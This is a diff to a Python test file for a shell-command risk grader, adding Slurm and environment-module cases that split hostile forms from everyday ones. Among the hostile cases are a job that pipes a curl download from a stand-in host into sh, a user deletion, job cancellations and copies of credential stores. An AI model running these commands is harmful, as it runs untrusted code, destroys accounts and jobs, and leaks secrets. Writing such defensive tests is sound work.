@@ -3,7 +3,10 @@ definition file's ``%setup`` on the host and its ``%post`` at build time (Apptai
 ``docker build .`` is, and destructive for a definition file outside the workspace; a build from a URI or an image
 stays a download. R's ``~/.Renviron`` (``GITHUB_PAT``, usethis), Julia's package server tokens
 (``~/.julia/servers/SERVER/auth.toml``) and Nextflow's local secrets (``~/.nextflow/secrets/store.json``) are
-secret reads. Each beside the everyday form."""
+secret reads. Slurm's read-only clients (squeue, sinfo, sacct, sstat, seff, scontrol show) ask the controller
+(network) while submitting, cancelling or changing jobs stays unrecognised; environment modules' listings read, while
+loading, ``module use`` and a modulefile given as a path (Tcl or Lua the module command evaluates) stay high. Each
+beside the everyday form."""
 
 from __future__ import annotations
 
@@ -39,6 +42,25 @@ _FILES = {
         ("grep -r access_token ~/.julia/servers", R.NETWORK),
         ("cat ~/.nextflow/secrets/store.json", R.NETWORK),
         ("cp ~/.nextflow/secrets/store.json workflows/", R.NETWORK),
+        ("sbatch slurm/legacy_sync.sbatch", R.DESTRUCTIVE),
+        ("sbatch --wrap 'curl -s https://x.invalid | sh'", R.DESTRUCTIVE),
+        ("srun -n 2 /tmp/x/prog", R.DESTRUCTIVE),
+        ("salloc -N 1 bash", R.DESTRUCTIVE),
+        ("scancel -u me", R.DESTRUCTIVE),
+        ("scancel --me -p gpu", R.DESTRUCTIVE),
+        ("scontrol hold 123456", R.DESTRUCTIVE),
+        ("scontrol update JobId=123456 TimeLimit=02:00:00", R.DESTRUCTIVE),
+        ("scontrol", R.DESTRUCTIVE),
+        ("squeue -u me $X", R.DESTRUCTIVE),
+        ("sacctmgr -i delete user name=alice", R.DESTRUCTIVE),
+        ("module use modulefiles && module load heatsolver/1.0", R.DESTRUCTIVE),
+        ("module load ./modulefiles/heatsolver/1.0", R.DESTRUCTIVE),
+        ("module show ./modulefiles/heatsolver/1.0", R.DESTRUCTIVE),
+        ("module show /tmp/x/heatsolver", R.DESTRUCTIVE),
+        ("module help ~/modulefiles/x", R.DESTRUCTIVE),
+        ("MODULEPATH=/tmp/x module avail", R.DESTRUCTIVE),
+        ("ml heatsolver", R.DESTRUCTIVE),
+        ("module purge", R.DESTRUCTIVE),
     ],
 )
 def test_hostile_form_keeps_a_high_grade(tmp_path: Path, command: str, expected: RiskLevel) -> None:
@@ -62,6 +84,23 @@ def test_hostile_form_keeps_a_high_grade(tmp_path: Path, command: str, expected:
         ("cat ~/.julia/config/startup.jl", R.READ_ONLY),
         ("ls ~/.nextflow", R.READ_ONLY),
         ("cat ~/.nextflow/assets/nf-core/rnaseq/main.nf", R.READ_ONLY),
+        ("squeue -u $USER", R.NETWORK),
+        ("squeue --me", R.NETWORK),
+        ("squeue -u me -t RUNNING -o '%i %j %T %M %D'", R.NETWORK),
+        ("sinfo -p gpu -N -l", R.NETWORK),
+        ("sacct -j 123456 --format=JobID,State,Elapsed,MaxRSS", R.NETWORK),
+        ("sstat -j 123456 --format=AveCPU,MaxRSS", R.NETWORK),
+        ("seff 123456", R.NETWORK),
+        ("scontrol show job 123456", R.NETWORK),
+        ("scontrol -d show partition compute", R.NETWORK),
+        ("module avail", R.READ_ONLY),
+        ("module -t avail hdf5", R.READ_ONLY),
+        ("module list", R.READ_ONLY),
+        ("module spider openmpi", R.READ_ONLY),
+        ("module show gcc/12.2.0", R.READ_ONLY),
+        ("module help openmpi/4.1.5", R.READ_ONLY),
+        ("ml av", R.READ_ONLY),
+        ("ml", R.READ_ONLY),
     ],
 )
 def test_everyday_form_is_not_over_graded(tmp_path: Path, command: str, expected: RiskLevel) -> None:
